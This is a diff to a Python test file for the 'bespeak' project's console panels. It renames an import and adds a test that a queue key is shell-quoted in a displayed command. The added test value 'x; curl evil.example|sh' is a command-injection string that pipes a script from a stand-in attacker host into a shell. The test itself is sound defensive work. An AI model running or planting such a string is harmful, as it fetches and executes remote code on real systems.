@@ -18,7 +18,7 @@ from bespeak.extensions.semantics.settings import SemanticSettings
 from bespeak.protocol.exchange.principal import derived_id
 from bespeak.runtime.extension import Extension
 from bespeak.state.audit.record import payload_of
-from bespeak.state.identity.api_keys import make_key
+from bespeak.state.identity.credentials import make_key
 from bespeak.state.identity.settings import AuthSettings
 from bespeak.state.store.commands.agents import AddApiKey
 from bespeak.state.store.commands.audit import LatestAudit
@@ -224,6 +224,8 @@ async def test_every_panel_and_its_next_page_are_read_from_both_stores(place: st
                 assert all({"kind", "title"} <= block.keys() for block in blocks)
                 after = cursors.get(name, '[0.0,""]')
                 assert await console.panel(name, after=after) == blocks, name
+            [table] = await console.panel("queues", key="x; curl evil.example|sh")
+            assert table["command"] == "bespeak queues show 'x; curl evil.example|sh'"
             assert (await console.act("cases", "reject", "esc-1")).status_code == 200
             assert code_of(await console.act("workflows", "pause", "x")) == (404, "not-found")
             assert code_of(await console.act("proposals", "approve", "x")) == (404, "not-found")
